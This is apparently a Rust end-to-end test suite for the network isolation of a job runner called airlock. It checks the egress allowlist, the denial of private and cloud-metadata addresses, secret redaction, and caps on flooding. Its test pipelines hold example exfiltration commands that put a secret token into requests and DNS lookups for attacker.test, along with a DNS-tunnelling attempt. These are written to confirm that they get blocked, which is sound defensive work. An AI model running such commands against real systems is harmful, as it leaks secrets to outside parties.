//! End-to-end tests of network isolation: the real `airlock` binary runs
//! jobs whose only way out is the egress proxy, with the real `curl` and
//! Python inside them, against a real HTTP server and a real DNS server on
//! this host's loopback (nothing here ever talks to another address).
#![allow(clippy::unwrap_used)]

mod common;

use std::collections::HashMap;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::{assert_no_file_holds, job, set_secret, upstream, World};
use hickory_proto::op::{Message, MessageType, ResponseCode};
use hickory_proto::rr::{rdata, Name, RData, Record, RecordType};
use serde_json::Value;

/// A DNS server on 127.0.0.1 (UDP) answering A queries from `zone`, and
/// NXDOMAIN for anything else. Stops when dropped.
struct Dns {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
}

impl Dns {
    fn start(zone: &[(&str, Ipv4Addr)]) -> Dns {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        let addr = socket.local_addr().unwrap();
        let zone: HashMap<String, Ipv4Addr> = zone
            .iter()
            .map(|(name, ip)| (format!("{name}."), *ip))
            .collect();
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut buf = [0u8; 512];
            while !stopped.load(Ordering::Relaxed) {
                let Ok((n, from)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                let Ok(query) = Message::from_vec(&buf[..n]) else {
                    continue;
                };
                let mut answer = Message::new(
                    query.metadata.id,
                    MessageType::Response,
                    query.metadata.op_code,
                );
                answer.metadata.recursion_desired = query.metadata.recursion_desired;
                answer.metadata.recursion_available = true;
                answer.add_queries(query.queries.clone());
                let mut known = false;
                for q in &query.queries {
                    let name = q.name().to_ascii().to_ascii_lowercase();
                    if let Some(ip) = zone.get(&name) {
                        known = true;
                        if q.query_type() == RecordType::A {
                            let name = Name::from_ascii(&name).unwrap();
                            answer.add_answer(Record::from_rdata(
                                name,
                                60,
                                RData::A(rdata::A(*ip)),
                            ));
                        }
                    }
                }
                if !known {
                    answer.metadata.response_code = ResponseCode::NXDomain;
                }
                let _ = socket.send_to(&answer.to_vec().unwrap(), from);
            }
        });
        Dns { addr, stop }
    }
}

impl Drop for Dns {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// What a job's script printed as `RESULT NAME VALUE` lines.
fn results(log: &str) -> HashMap<String, String> {
    log.lines()
        .filter_map(|l| l.split_once("RESULT "))
        .filter_map(|(_, rest)| rest.split_once(' '))
        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
        .collect()
}

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// The host's interfaces, routes and firewall rules, as text to compare.
fn host_network() -> String {
    let mut text = String::new();
    let mut names: Vec<String> = std::fs::read_dir("/sys/class/net")
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    text.push_str(&format!("interfaces: {names:?}\n"));
    for file in ["/proc/net/route", "/proc/net/ipv6_route"] {
        text.push_str(&std::fs::read_to_string(file).unwrap_or_default());
    }
    for (tool, args) in [
        ("nft", &["list", "ruleset"][..]),
        ("iptables-save", &[][..]),
    ] {
        if have(tool) {
            let out = Command::new(tool).args(args).output().unwrap();
            // iptables-save stamps its output with the time.
            let rules: String = String::from_utf8_lossy(&out.stdout)
                .lines()
                .filter(|l| !l.starts_with('#'))
                .map(|l| format!("{l}\n"))
                .collect();
            text.push_str(&rules);
        } else {
            eprintln!("note: {tool} is not installed; its rules are not compared");
        }
    }
    text
}

const SCRIPT: &str = r#"
set +e
r() { echo "RESULT $1 $2"; }
code() { curl -s -o /dev/null --max-time 10 -w '%{http_code}' "$@"; }
r http "$(curl -sS --max-time 10 http://ok.test:$P/plain)"
r connect "$(curl -sS --max-time 10 --proxytunnel http://ok.test:$P/tunnel)"
r wildcard_ok "$(curl -sS --max-time 10 http://api.wild.test:$P/deep)"
r port "$(code http://ok.test:$Q/)"
r host "$(code http://other.test:$P/)"
r wildcard "$(code http://wild.test:$P/)"
r private "$(code http://private.test:$P/)"
r metadata "$(code http://meta.test:$P/)"
r ipv6 "$(code "http://[2001:db8::1]:$P/")"
r connect_denied "$(curl -s -o /dev/null --max-time 10 -w '%{http_connect}' --proxytunnel http://other.test:$P/)"
r why "$(curl -s --max-time 10 http://other.test:$P/ | tr '\n' ' ')"
python3 - <<'PY'
import errno, socket
def r(k, v): print("RESULT", k, v)
def attempt(name, family, kind, addr):
    s = socket.socket(family, kind)
    s.settimeout(3)
    try:
        if kind == socket.SOCK_STREAM:
            s.connect(addr)
        else:
            s.sendto(b"exfiltrate", addr)
        r(name, "connected")
    except OSError as e:
        r(name, errno.errorcode.get(e.errno, str(e)))
attempt("direct_tcp", socket.AF_INET, socket.SOCK_STREAM, ("198.51.100.7", 443))
attempt("direct_tcp6", socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::7", 443))
attempt("direct_udp", socket.AF_INET, socket.SOCK_DGRAM, ("198.51.100.7", 53))
for name in ["ok.test", "exfil-c2VjcmV0.test"]:
    try:
        r("dns_" + name.split(".")[0], socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0])
    except socket.gaierror as e:
        r("dns_" + name.split(".")[0], "gaierror")
PY
r interfaces "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\n' ' ')"
r routes4 "$(tail -n +2 /proc/net/route | wc -l)"
r routes6 "$(grep -vc ' lo$' /proc/net/ipv6_route)"
"#;

/// Acceptance of the network issue, points 1 and 2, in one job: what the
/// allowlist names works over plain HTTP and CONNECT; everything else
/// fails, each attempt with an event saying why (from the proxy, or from
/// the network watch for calls that bypass it); the job has no route but
/// loopback; the host gains no interface or rule.
#[test]
fn e2e_egress_allowlist_is_the_only_way_out() {
    if !have("curl") || !have("python3") {
        panic!("this test needs curl and python3 on the host (apt-get install curl python3)");
    }
    let w = World::new();
    let up = upstream();
    let p = up.port();
    // A port nothing listens on (the proxy must refuse before trying).
    let q = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let dns = Dns::start(&[
        ("ok.test", Ipv4Addr::LOCALHOST),
        ("other.test", Ipv4Addr::LOCALHOST),
        ("wild.test", Ipv4Addr::LOCALHOST),
        ("api.wild.test", Ipv4Addr::LOCALHOST),
        ("private.test", Ipv4Addr::new(10, 0, 0, 5)),
        ("meta.test", Ipv4Addr::new(169, 254, 169, 254)),
    ]);
    let file = w.pipeline(
        "net.yml",
        &format!(
            "version: 1\nname: net\njobs:\n  net:\n    env: {{ P: \"{p}\", Q: \"{q}\" }}\n    network:\n      egress: [\"ok.test:{p}\", \"*.wild.test:{p}\", \"private.test:{p}\", \"meta.test:{p}\", \"127.0.0.1:{p}\"]\n    steps:\n      - run: |\n{}\n",
            SCRIPT
                .lines()
                .map(|l| format!("          {l}"))
                .collect::<Vec<_>>()
                .join("\n")
        ),
    );
    let before = host_network();
    let dns_flag = dns.addr.to_string();
    let (r, doc) = w.run_json(&file, &["--egress-dns", &dns_flag]);
    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    assert_eq!(host_network(), before, "the host's network changed");

    let run = doc["run"].to_string();
    let logs = w.airlock(&["logs", &format!("{run}/net")]);
    let got = results(&logs.stdout);
    let expect = |key: &str, want: &str| {
        assert_eq!(
            got.get(key).map(String::as_str),
            Some(want),
            "{key}; all results: {got:#?}\nlog:\n{}",
            logs.stdout
        );
    };
    expect("http", "upstream says hi: /plain");
    expect("connect", "upstream says hi: /tunnel");
    expect("wildcard_ok", "upstream says hi: /deep");
    for denied in ["port", "host", "wildcard", "private", "metadata", "ipv6"] {
        expect(denied, "403");
    }
    // A refused CONNECT: the proxy's own answer.
    expect("connect_denied", "403");
    assert!(
        got["why"].contains(&format!("\"other.test:{p}\"")),
        "the denial names the rule to add: {}",
        got["why"]
    );
    // Tools that ignore the proxy find no route at all.
    expect("direct_tcp", "ENETUNREACH");
    expect("direct_tcp6", "ENETUNREACH");
    expect("direct_udp", "ENETUNREACH");
    expect("dns_ok", "127.0.0.1");
    expect("dns_exfil-c2VjcmV0", "gaierror");
    expect("interfaces", "lo");
    expect("routes4", "0");
    expect("routes6", "0");

    // Every connection the proxy saw is an event, with the reason.
    let shown = w.show(&run);
    let egress = job(&shown, "net")["egress"].as_array().unwrap().clone();
    let find = |kind: &str, host: &str, port: u16, allowed: bool| -> Value {
        egress
            .iter()
            .find(|e| {
                e["kind"] == kind
                    && e["host"]
                        .as_str()
                        .is_some_and(|h| h.to_ascii_lowercase().contains(host))
                    && e["port"] == port
                    && e["allowed"] == allowed
            })
            .cloned()
            .unwrap_or_else(|| panic!("no {kind} {host}:{port} allowed={allowed} in {egress:#?}"))
    };
    let plain = find("http", "ok.test", p, true);
    assert_eq!(plain["addr"], format!("127.0.0.1:{p}"));
    assert!(plain["bytes_down"].as_u64().unwrap() > 0, "{plain}");
    let tunnel = find("connect", "ok.test", p, true);
    assert!(tunnel["bytes_up"].as_u64().unwrap() > 0, "{tunnel}");
    for (kind, host, port, why) in [
        ("http", "ok.test", q, "allowlist"),
        ("http", "other.test", p, "allowlist"),
        ("http", "wild.test", p, "allowlist"),
        ("http", "private.test", p, "10.0.0.5"),
        ("http", "meta.test", p, "169.254.169.254"),
        ("http", "2001:db8::1", p, "allowlist"),
        ("connect", "other.test", p, "allowlist"),
        ("dns", "exfil-c2vjcmv0.test", 53, "allowlist"),
    ] {
        let e = find(kind, host, port, false);
        assert!(
            e["detail"].as_str().unwrap().contains(why),
            "{kind} {host}:{port} denied without saying {why:?}: {e}"
        );
    }
    find("dns", "ok.test", 53, true);
    // Calls that named an address themselves are seen too, with the call.
    for (host, port, call) in [
        ("198.51.100.7", 443, "connect()"),
        ("2001:db8::7", 443, "connect()"),
        ("198.51.100.7", 53, "sendto()"),
    ] {
        let e = find("direct", host, port, false);
        let detail = e["detail"].as_str().unwrap();
        assert!(
            detail.contains(call) && detail.contains("bypassed the egress proxy"),
            "{e}"
        );
    }
    // The same events are in the audit log.
    let audit = w.airlock(&["audit", "show", "--json"]);
    assert!(
        audit.stdout.contains("\"egress\"") && audit.stdout.contains("private.test"),
        "{}",
        audit.stdout
    );
    drop(dns);
}

/// A job that asks its proxy (or its DNS responder) for a name built from
/// a secret must not get the secret into the run record or the audit log:
/// the denial is recorded with the name redacted.
#[test]
fn e2e_secret_in_a_requested_name_is_redacted_from_egress_events() {
    if !have("curl") || !have("python3") {
        panic!("this test needs curl and python3 on the host (apt-get install curl python3)");
    }
    let w = World::new();
    let secret = "q7zk3hunter2token";
    set_secret(&w, "TOKEN", secret, "exfil/*");
    let file = w.pipeline(
        "exfil.yml",
        "version: 1\nname: exfil\njobs:\n  leak:\n    secrets: [{ name: TOKEN, env: TOKEN }]\n    network: { egress: [\"example.org:443\"] }\n    steps:\n      - run: |\n          curl -s -o /dev/null http://$TOKEN.attacker.test/ || true\n          python3 -c 'import socket,os\n          try: socket.getaddrinfo(os.environ[\"TOKEN\"] + \".attacker.test\", 80)\n          except OSError: pass'\n",
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    assert!(!r.stderr.contains(secret), "terminal: {}", r.stderr);
    let shown = w.show(&doc["run"].to_string());
    let egress = job(&shown, "leak")["egress"].as_array().unwrap().clone();
    for kind in ["http", "dns"] {
        assert!(
            egress
                .iter()
                .any(|e| e["kind"] == kind && e["host"].as_str().unwrap().contains("attacker.test")),
            "no {kind} denial recorded: {egress:#?}"
        );
    }
    assert!(!shown.to_string().contains(secret), "run record: {shown}");
    let audit = w.airlock(&["audit", "show", "--json"]);
    assert!(audit.stdout.contains("attacker.test"), "{}", audit.stdout);
    assert!(
        !audit.stdout.contains(secret),
        "audit log: {}",
        audit.stdout
    );
}

/// A value the job registers for masking and uses at once, with nothing
/// printed in between (`echo "$TOKEN" > /run/airlock/mask; curl -H
/// "...$TOKEN" ...`), is masked in the records of what it did next: the
/// arguments of its execs and the names it asked for. Those records are
/// made on another thread than the output, which used to read the mask
/// channel only with the next output (or 100 ms later); the exec and the
/// connection were recorded first, with the value in them.
#[test]
fn e2e_a_value_registered_at_run_time_is_masked_in_records_at_once() {
    if !have("curl") || !have("python3") {
        panic!("this test needs curl and python3 on the host (apt-get install curl python3)");
    }
    let w = World::new();
    // Built in the job, so that the pipeline's text does not hold it.
    let value = "mint1337-reg42-value";
    let file = w.pipeline(
        "minted.yml",
        "version: 1\nname: minted\njobs:\n  use:\n    network: { egress: [\"example.org:443\"] }\n    steps:\n      - run: |\n          v=\"mint$((1000 + 337))-reg$((6 * 7))-value\"\n          printf '%s\\n' \"$v\" > /run/airlock/mask\n          /bin/true \"$v\"\n          curl -s -o /dev/null \"http://$v.attacker.test/\" || true\n          python3 -c 'import socket,sys\n          try: socket.getaddrinfo(sys.argv[1] + \".attacker.test\", 80)\n          except OSError: pass' \"$v\"\n",
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    let shown = w.show(&doc["run"].to_string());
    let used = job(&shown, "use");
    // The execs and the connections were recorded, with the value masked
    // (in the argv of `true`, `curl` or `python3`: the kernel's copy of a
    // new program's arguments misses now and then, docs/SECURITY.md).
    let processes = used["processes"].as_array().unwrap();
    assert!(
        processes
            .iter()
            .any(|p| p["path"] != "/bin/sh" && p["argv"].as_str().unwrap().contains("***")),
        "no exec recorded with the value masked: {processes:#?}"
    );
    let egress = used["egress"].as_array().unwrap();
    for kind in ["http", "dns"] {
        assert!(
            egress
                .iter()
                .any(|e| e["kind"] == kind && e["host"] == "***.attacker.test"),
            "no masked {kind} denial: {egress:#?}"
        );
    }
    assert!(!shown.to_string().contains(value), "run record: {shown}");
    let audit = w.airlock(&["audit", "show", "--json"]);
    assert!(!audit.stdout.contains(value), "audit log: {}", audit.stdout);
    assert_no_file_holds(w.home.path(), &[value]);
}

/// A job that floods its DNS responder with queries for unlisted names
/// (a way to exfiltrate, or to bury the record) gets 2,048 events one by
/// one, then one with the count of the rest; the rules still see the rest.
#[test]
fn e2e_a_dns_flood_is_recorded_up_to_a_cap_then_counted() {
    if !have("python3") {
        panic!("this test needs python3 on the host (apt-get install python3)");
    }
    let w = World::new();
    let file = w.pipeline(
        "flood.yml",
        "version: 1\nname: flood\njobs:\n  flood:\n    network: { egress: [\"ok.test:80\"] }\n    steps:\n      - run: |\n          python3 -c '\n          import socket\n          for i in range(2100):\n              # The last one, past the cap, looks like DNS tunnelling.\n              name = (\"x\" * 50 if i == 2099 else \"n%d\" % i) + \".flood.test\"\n              try: socket.getaddrinfo(name, 80, socket.AF_INET)\n              except socket.gaierror: pass\n              else: raise SystemExit(\"resolved an unlisted name\")\n          '\n",
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    let shown = w.show(&doc["run"].to_string());
    let egress = job(&shown, "flood")["egress"].as_array().unwrap().clone();
    assert_eq!(egress.len(), 2049, "{:#?}", egress.last());
    assert!(
        egress[..2048]
            .iter()
            .all(|e| e["kind"] == "dns" && e["allowed"] == false),
        "{:#?}",
        egress.iter().find(|e| e["kind"] != "dns")
    );
    assert_eq!(egress[0]["host"], "n0.flood.test");
    let last = egress[2048]["detail"].as_str().unwrap();
    let (count, rest) = last.split_once(' ').unwrap();
    let count: usize = count.parse().unwrap();
    assert!(count >= 2100 - 2048, "{last}");
    assert!(
        rest.starts_with(&format!(
            "more DNS queries (dns) were not recorded, {count} of them denied"
        )),
        "{last}"
    );
    assert_eq!(egress[2048]["kind"], "dns");
    // Not recorded one by one, but the rules saw it.
    assert!(
        !egress
            .iter()
            .any(|e| e["host"].as_str().unwrap().starts_with("xxxx")),
        "the long label is past the cap"
    );
    let alerts = job(&shown, "flood")["alerts"].as_array().unwrap().clone();
    assert!(
        alerts
            .iter()
            .any(|a| a["rule"] == "dns-tunnelling-long-label"),
        "{alerts:#?}"
    );
}

/// A job without network that keeps trying to get out: each attempt fails
/// and is recorded, up to the per-job cap, and then one event counts the
/// rest (a loop of attempts cannot flood the record or the audit log).
#[test]
fn e2e_attempts_without_network_are_recorded_up_to_a_cap() {
    if !have("python3") {
        panic!("this test needs python3 on the host (apt-get install python3)");
    }
    let w = World::new();
    let file = w.pipeline(
        "none.yml",
        "version: 1\nname: none\njobs:\n  quiet:\n    steps:\n      - run: |\n          python3 -c '\n          import socket\n          for i in range(300):\n              try: socket.create_connection((\"198.51.100.7\", 1000 + i), timeout=1)\n              except OSError as e: assert e.errno == 101, e\n          '\n",
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    let shown = w.show(&doc["run"].to_string());
    let egress = job(&shown, "quiet")["egress"].as_array().unwrap().clone();
    assert_eq!(egress.len(), 257, "{egress:#?}");
    let first = &egress[0];
    assert_eq!(first["kind"], "direct");
    assert_eq!(first["host"], "198.51.100.7");
    assert_eq!(first["port"], 1000);
    assert!(
        first["detail"].as_str().unwrap().contains("network: none"),
        "{first}"
    );
    let last = &egress[256];
    assert!(
        last["detail"]
            .as_str()
            .unwrap()
            .starts_with("44 more attempts"),
        "{last}"
    );
}
